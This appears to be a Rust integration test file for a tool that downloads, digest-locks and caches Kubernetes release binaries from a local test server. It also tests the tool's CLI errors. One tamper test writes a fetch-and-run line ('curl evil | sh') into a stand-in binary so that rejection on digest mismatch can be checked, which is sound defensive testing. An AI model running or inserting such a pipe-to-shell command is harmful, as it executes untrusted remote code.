@@ -1,0 +1,522 @@
+//! The upstream-release bundle source against a real HTTP server on 127.0.0.1 (a small one in
+//! this file, serving a directory laid out like dl.k8s.io and logging every GET): digests
+//! recorded in the lock on the first download, nothing downloaded the second time, a tampered
+//! file refused, an unreachable server named quickly; and the `--k8s-release` flag end to end.
+//!
+//! The served binaries are stand-ins (shell scripts answering `--version` like kubelet), so the
+//! test takes seconds; what is under test is the fetching, locking and caching, not Kubernetes.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant};
+
+use kata_harness::kube::bundle::Bundle;
+use kata_harness::kube::release::{kube_arch, LockFile, Release, ReleaseError, BINARIES};
+use kata_harness::kube::KubeError;
+use kata_harness::profile::Version;
+use kata_harness::report::chain;
+use sha2::{Digest, Sha256};
+
+const VERSION: &str = "v1.20.2";
+
+/// A real HTTP/1.1 server on 127.0.0.1 serving `root`, one connection at a time, with a log
+/// of every request path. Stopped (and its port closed) when dropped.
+struct Server {
+    port: u16,
+    gets: Arc<Mutex<Vec<String>>>,
+    stop: Arc<AtomicBool>,
+    thread: Option<JoinHandle<()>>,
+}
+
+impl Server {
+    fn start(root: &Path) -> Server {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let gets = Arc::new(Mutex::new(Vec::new()));
+        let stop = Arc::new(AtomicBool::new(false));
+        let thread = {
+            let (gets, stop, root) = (gets.clone(), stop.clone(), root.to_owned());
+            std::thread::spawn(move || {
+                while !stop.load(Ordering::Relaxed) {
+                    match listener.accept() {
+                        Ok((stream, _)) => serve(stream, &root, &gets),
+                        // Non-blocking accept so that the stop flag is seen: poll interval.
+                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                            std::thread::sleep(Duration::from_millis(5))
+                        }
+                        Err(e) => panic!("accept: {e}"),
+                    }
+                }
+            })
+        };
+        Server {
+            port,
+            gets,
+            stop,
+            thread: Some(thread),
+        }
+    }
+
+    fn base_url(&self) -> String {
+        format!("http://127.0.0.1:{}/release", self.port)
+    }
+
+    fn gets(&self) -> Vec<String> {
+        self.gets.lock().unwrap().clone()
+    }
+}
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(thread) = self.thread.take() {
+            let _ = thread.join();
+        }
+    }
+}
+
+fn serve(stream: TcpStream, root: &Path, gets: &Mutex<Vec<String>>) {
+    stream.set_nonblocking(false).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut reader = BufReader::new(stream.try_clone().unwrap());
+    let mut request_line = String::new();
+    if reader.read_line(&mut request_line).is_err() {
+        return;
+    }
+    // The rest of the head, up to the blank line.
+    loop {
+        let mut line = String::new();
+        match reader.read_line(&mut line) {
+            Ok(0) | Err(_) => break,
+            Ok(_) if line == "\r\n" || line == "\n" => break,
+            Ok(_) => {}
+        }
+    }
+    let mut parts = request_line.split_whitespace();
+    let (method, path) = (parts.next().unwrap_or(""), parts.next().unwrap_or(""));
+    gets.lock().unwrap().push(format!("{method} {path}"));
+    let file = root.join(path.trim_start_matches('/'));
+    let mut out = stream;
+    let body = (method == "GET" && !path.contains(".."))
+        .then(|| std::fs::read(&file).ok())
+        .flatten();
+    let _ = match body {
+        Some(body) => out
+            .write_all(
+                format!(
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n\r\n",
+                    body.len()
+                )
+                .as_bytes(),
+            )
+            .and_then(|_| out.write_all(&body)),
+        None => out.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
+    };
+}
+
+fn arch() -> &'static str {
+    kube_arch(std::env::consts::ARCH).unwrap()
+}
+
+/// `<root>/release/v1.20.2/bin/linux/<arch>/<binary>`: executable stand-ins, each different.
+fn release_tree(root: &Path) -> PathBuf {
+    let dir = root.join("release").join(VERSION).join("bin/linux").join(arch());
+    std::fs::create_dir_all(&dir).unwrap();
+    for binary in BINARIES {
+        let path = dir.join(binary);
+        std::fs::write(
+            &path,
+            format!("#!/bin/sh\n# {binary} stand-in\necho Kubernetes {VERSION}\n"),
+        )
+        .unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    dir
+}
+
+fn sha256_of(path: &Path) -> String {
+    hex::encode(Sha256::digest(std::fs::read(path).unwrap()))
+}
+
+/// A release fetched from `base_url` into `cache` (as `$KATA_HARNESS_CACHE/k8s/release`).
+fn release(base_url: &str, cache: &Path, lock: &Path) -> Release {
+    Release {
+        version: VERSION.into(),
+        arch: arch().into(),
+        base_url: base_url.into(),
+        lock: lock.to_owned(),
+        cache: cache.join("k8s/release"),
+    }
+}
+
+/// Every file under `dir`, relative.
+fn files_under(dir: &Path) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut stack = vec![dir.to_owned()];
+    while let Some(d) = stack.pop() {
+        for entry in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let path = entry.path();
+            if entry.file_type().unwrap().is_dir() {
+                stack.push(path);
+            } else {
+                found.push(path.strip_prefix(dir).unwrap().display().to_string());
+            }
+        }
+    }
+    found.sort();
+    found
+}
+
+#[test]
+fn first_download_records_every_digest_and_the_second_downloads_nothing() {
+    let served = tempfile::tempdir().unwrap();
+    let tree = release_tree(served.path());
+    let server = Server::start(served.path());
+    let work = tempfile::tempdir().unwrap();
+    let lock_path = work.path().join("k8s-release.lock");
+    let cache = work.path().join("cache");
+    let release = release(&server.base_url(), &cache, &lock_path);
+
+    let bundle = release.fetch().unwrap();
+    assert_eq!(bundle.version, Version::new(1, 20, 2));
+    assert_eq!(bundle.label(), "k8s-1.20");
+    assert_eq!(bundle.dir, release.dir());
+    assert_eq!(
+        bundle.pause(),
+        None,
+        "upstream has no pause: the busybox pause image is used"
+    );
+    let mut gets = server.gets();
+    gets.sort();
+    let mut want: Vec<String> = BINARIES
+        .iter()
+        .map(|b| format!("GET /release/{VERSION}/bin/linux/{}/{b}", arch()))
+        .collect();
+    want.sort();
+    assert_eq!(gets, want, "one GET per binary");
+
+    // The lock has every file's digest, and the cached binary is that file.
+    let text = std::fs::read_to_string(&lock_path).unwrap();
+    let lock = LockFile::parse(&text, &lock_path).unwrap();
+    assert_eq!(lock.len(), BINARIES.len(), "{text}");
+    for binary in BINARIES {
+        let digest = sha256_of(&tree.join(binary));
+        assert_eq!(
+            lock.get(VERSION, arch(), binary),
+            Some(digest.as_str()),
+            "{binary}"
+        );
+        assert!(
+            text.contains(&format!("{VERSION} {} {binary} {digest}\n", arch())),
+            "{text}"
+        );
+        assert_eq!(sha256_of(&bundle.bin(binary)), digest, "{binary}");
+        let mode = std::fs::metadata(bundle.bin(binary))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o755, "{binary}");
+    }
+    assert!(
+        files_under(&cache.join("k8s/release/tmp")).is_empty(),
+        "no partial downloads"
+    );
+
+    // Second run, server up: not one request; the lock is unchanged.
+    let again = release.fetch().unwrap();
+    assert_eq!(again, bundle);
+    assert_eq!(
+        server.gets().len(),
+        BINARIES.len(),
+        "a second fetch downloaded something"
+    );
+    assert_eq!(std::fs::read_to_string(&lock_path).unwrap(), text);
+
+    // Server gone: fetching (and opening the cache, as `list` does) still works.
+    drop(server);
+    assert_eq!(release.fetch().unwrap(), bundle);
+    assert_eq!(release.open_cached().unwrap(), bundle);
+}
+
+#[test]
+fn a_tampered_file_is_refused_with_both_digests_and_nothing_valid_is_left() {
+    let served = tempfile::tempdir().unwrap();
+    let tree = release_tree(served.path());
+    let server = Server::start(served.path());
+    let work = tempfile::tempdir().unwrap();
+    let lock_path = work.path().join("k8s-release.lock");
+    // Record the digests, then tamper with kube-apiserver upstream.
+    release(&server.base_url(), &work.path().join("first"), &lock_path)
+        .fetch()
+        .unwrap();
+    let recorded = std::fs::read_to_string(&lock_path).unwrap();
+    let good = sha256_of(&tree.join("kube-apiserver"));
+    let tampered = tree.join("kube-apiserver");
+    std::fs::write(
+        &tampered,
+        format!("#!/bin/sh\necho Kubernetes {VERSION}\ncurl evil | sh\n"),
+    )
+    .unwrap();
+    let bad = sha256_of(&tampered);
+
+    // A fresh cache, the lock present: the download is refused and deleted.
+    let cache = work.path().join("second");
+    let release = release(&server.base_url(), &cache, &lock_path);
+    let error = release.fetch().unwrap_err();
+    let url = format!(
+        "{}/{VERSION}/bin/linux/{}/kube-apiserver",
+        server.base_url(),
+        arch()
+    );
+    let KubeError::Release(inner) = &error else {
+        panic!("expected a release error, got {}", chain(&error));
+    };
+    match &**inner {
+        ReleaseError::Digest {
+            binary,
+            url: got_url,
+            expected,
+            actual,
+            lock,
+        } => {
+            assert_eq!(binary, "kube-apiserver");
+            assert_eq!(got_url, &url);
+            assert_eq!(expected, &good);
+            assert_eq!(actual, &bad);
+            assert_eq!(lock, &lock_path);
+        }
+        other => panic!("expected a digest error, got {}", chain(other)),
+    }
+    let message = chain(&error);
+    for part in [
+        "kube-apiserver",
+        url.as_str(),
+        good.as_str(),
+        bad.as_str(),
+        "deleted",
+    ] {
+        assert!(message.contains(part), "{part:?} missing from: {message}");
+    }
+
+    // Nothing that looks valid: no bin/kube-apiserver, no blob of the bad digest, no partial
+    // file, and the directory does not open as a bundle. The lock still holds the good digest.
+    let root = cache.join("k8s/release");
+    assert!(std::fs::symlink_metadata(release.dir().join("bin/kube-apiserver")).is_err());
+    assert!(!root.join("blobs/sha256").join(&bad).exists());
+    assert!(
+        files_under(&root.join("tmp")).is_empty(),
+        "{:?}",
+        files_under(&root.join("tmp"))
+    );
+    let open = Bundle::open(&release.dir()).unwrap_err().to_string();
+    assert!(open.contains("missing bin/kube-apiserver"), "{open}");
+    assert!(release.open_cached().is_err());
+    assert_eq!(std::fs::read_to_string(&lock_path).unwrap(), recorded);
+
+    // Upstream back to the recorded file: the same cache completes.
+    std::fs::write(
+        &tampered,
+        format!("#!/bin/sh\n# kube-apiserver stand-in\necho Kubernetes {VERSION}\n"),
+    )
+    .unwrap();
+    assert_eq!(sha256_of(&tampered), good);
+    release.fetch().unwrap();
+}
+
+#[test]
+fn an_unreachable_server_fails_within_seconds_naming_the_url() {
+    let closed = {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    let work = tempfile::tempdir().unwrap();
+    let lock_path = work.path().join("k8s-release.lock");
+    let base = format!("http://127.0.0.1:{closed}/release");
+    let release = release(&base, &work.path().join("cache"), &lock_path);
+    let started = Instant::now();
+    let error = release.fetch().unwrap_err();
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "took {:?}",
+        started.elapsed()
+    );
+    let message = chain(&error);
+    assert!(
+        message.contains(&format!(
+            "failed to download kubeadm from {base}/{VERSION}/bin/linux/{}/kubeadm: unreachable",
+            arch()
+        )),
+        "{message}"
+    );
+    assert!(matches!(&error, KubeError::Release(e) if matches!(**e, ReleaseError::Download { .. })));
+    assert!(!lock_path.exists(), "nothing recorded");
+    let root = work.path().join("cache/k8s/release");
+    assert!(files_under(&root.join("tmp")).is_empty());
+    assert!(files_under(&release.dir()).is_empty());
+}
+
+#[test]
+fn a_release_the_server_does_not_have_is_an_http_error() {
+    let served = tempfile::tempdir().unwrap();
+    release_tree(served.path());
+    let server = Server::start(served.path());
+    let work = tempfile::tempdir().unwrap();
+    let mut release = release(
+        &server.base_url(),
+        &work.path().join("cache"),
+        &work.path().join("lock"),
+    );
+    release.version = "v1.99.0".into();
+    let message = chain(&release.fetch().unwrap_err());
+    assert!(
+        message.contains(&format!(
+            "failed to download kubeadm from {}/v1.99.0/bin/linux/{}/kubeadm: the server answered with an HTTP error",
+            server.base_url(),
+            arch()
+        )),
+        "{message}"
+    );
+    assert!(message.contains("404"), "curl's own line is kept: {message}");
+    assert_eq!(server.gets().len(), 1);
+    assert!(files_under(&work.path().join("cache/k8s/release/tmp")).is_empty());
+}
+
+#[test]
+fn a_cached_release_is_recorded_into_a_new_lock_without_downloading() {
+    let served = tempfile::tempdir().unwrap();
+    release_tree(served.path());
+    let server = Server::start(served.path());
+    let work = tempfile::tempdir().unwrap();
+    let cache = work.path().join("cache");
+    let first = release(&server.base_url(), &cache, &work.path().join("first.lock"));
+    first.fetch().unwrap();
+    drop(server);
+    // Another checkout (its own lock) sharing the cache: digests checked and recorded offline.
+    let second = release(&first.base_url, &cache, &work.path().join("second.lock"));
+    second.fetch().unwrap();
+    assert_eq!(
+        std::fs::read_to_string(work.path().join("second.lock")).unwrap(),
+        std::fs::read_to_string(work.path().join("first.lock")).unwrap()
+    );
+}
+
+/// `kata-harness <subcommand>` as a user runs it, isolated: a temp cache and lock, the
+/// cluster suite only, and a stand-in containerd so that `--target local` plans without one.
+fn cli(work: &Path, base_url: &str, subcommand: &str, extra: &[&str]) -> std::process::Output {
+    let containerd = work.join("containerd");
+    std::fs::create_dir_all(&containerd).unwrap();
+    let script = containerd.join("containerd");
+    std::fs::write(
+        &script,
+        "#!/bin/sh\necho containerd github.com/containerd/containerd 1.6.20 stand-in\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
+    Command::new(env!("CARGO_BIN_EXE_kata-harness"))
+        .current_dir(&repo)
+        .env("KATA_HARNESS_CACHE", work.join("cache"))
+        .env("KATA_HARNESS_K8S_RELEASE_URL", base_url)
+        .env("KATA_HARNESS_K8S_RELEASE_LOCK", work.join("k8s-release.lock"))
+        .env_remove("KATA_HARNESS_K8S_BUNDLE")
+        .args([subcommand, "--target", "local", "--containerd"])
+        .arg(&containerd)
+        .arg("--suites")
+        .arg(repo.join("suites/kubernetes.yaml"))
+        .args(extra)
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn cli_unreachable_release_is_an_input_error_within_seconds() {
+    let closed = {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    let work = tempfile::tempdir().unwrap();
+    let base = format!("http://127.0.0.1:{closed}/release");
+    let started = Instant::now();
+    let results = work.path().join("results");
+    let results = results.to_str().unwrap();
+    let out = cli(
+        work.path(),
+        &base,
+        "run",
+        &["--k8s-release", VERSION, "--results", results],
+    );
+    let elapsed = started.elapsed();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(elapsed < Duration::from_secs(30), "took {elapsed:?}");
+    let last = stderr.lines().last().unwrap_or_default();
+    assert!(
+        last.starts_with(&format!("error: --k8s-release {VERSION}: failed to fetch the upstream Kubernetes release: failed to download kubeadm from {base}/")),
+        "{stderr}"
+    );
+    assert!(last.contains("unreachable"), "{stderr}");
+}
+
+#[test]
+fn cli_lists_a_cached_release_and_names_one_that_is_not() {
+    let served = tempfile::tempdir().unwrap();
+    release_tree(served.path());
+    let server = Server::start(served.path());
+    let work = tempfile::tempdir().unwrap();
+
+    // `list` never downloads: before the first `run`, it says how to get the release.
+    let out = cli(
+        work.path(),
+        &server.base_url(),
+        "list",
+        &["--k8s-release", VERSION],
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("is not in the cache yet"), "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "`kata-harness run --k8s-release {VERSION}` downloads it"
+        )),
+        "{stderr}"
+    );
+    assert!(server.gets().is_empty());
+
+    // Fetched into the same cache and lock the CLI uses: the cluster variant is k8s-1.20.
+    release(
+        &server.base_url(),
+        &work.path().join("cache"),
+        &work.path().join("k8s-release.lock"),
+    )
+    .fetch()
+    .unwrap();
+    let out = cli(
+        work.path(),
+        &server.base_url(),
+        "list",
+        &["--k8s-release", "1.20.2"],
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        stdout.contains("kubernetes::system-pods-on-runc::k8s-1.20"),
+        "{stdout}"
+    );
+
+    // --k8s-release and --k8s-bundle name two different bundles.
+    let out = cli(
+        work.path(),
+        &server.base_url(),
+        "list",
+        &["--k8s-release", VERSION, "--k8s-bundle", "/tmp"],
+    );
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot be used with"));
+}
